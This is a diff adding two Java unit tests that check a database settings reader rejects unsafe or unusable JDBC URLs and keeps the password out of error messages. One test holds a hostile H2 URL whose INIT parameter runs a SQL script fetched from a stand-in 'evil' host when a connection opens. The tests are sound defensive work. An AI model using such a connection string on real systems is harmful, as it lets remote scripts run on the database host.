@@ -177,4 +177,36 @@ class SettingsTest {
     assertThat(s.unknownKeys(List.of("db.", "outbox."), DatabaseSettings.SETTINGS))
         .containsExactly("db.ulr");
   }
+
+  @Test
+  void anH2UrlThatRunsScriptsAtConnectIsRefusedNamingTheParameter() {
+    Settings.Reader r =
+        Settings.of(
+                Map.of(
+                    "db.url",
+                    "jdbc:h2:mem:x;MODE=PostgreSQL; init = RUNSCRIPT FROM 'http://evil/x.sql'",
+                    "db.user",
+                    "sa",
+                    "db.password",
+                    ""))
+            .reader();
+    assertThat(DatabaseSettings.read(r)).isNull();
+    assertThat(r.problems())
+        .singleElement(org.assertj.core.api.InstanceOfAssertFactories.STRING)
+        .contains("→ db.url →")
+        .contains("remove the INIT parameter");
+  }
+
+  @Test
+  void aUrlNoDriverOnTheClassPathAcceptsIsRefusedAtStart() {
+    Settings.Reader r =
+        Settings.of(
+                Map.of("db.url", "jdbc:mysql://h/db", "db.user", "u", "db.password", "secret-pw"))
+            .reader();
+    assertThat(DatabaseSettings.read(r)).isNull();
+    assertThat(r.problems())
+        .singleElement(org.assertj.core.api.InstanceOfAssertFactories.STRING)
+        .contains("'jdbc:mysql://h/db' → db.url → no JDBC driver")
+        .doesNotContain("secret-pw");
+  }
 }
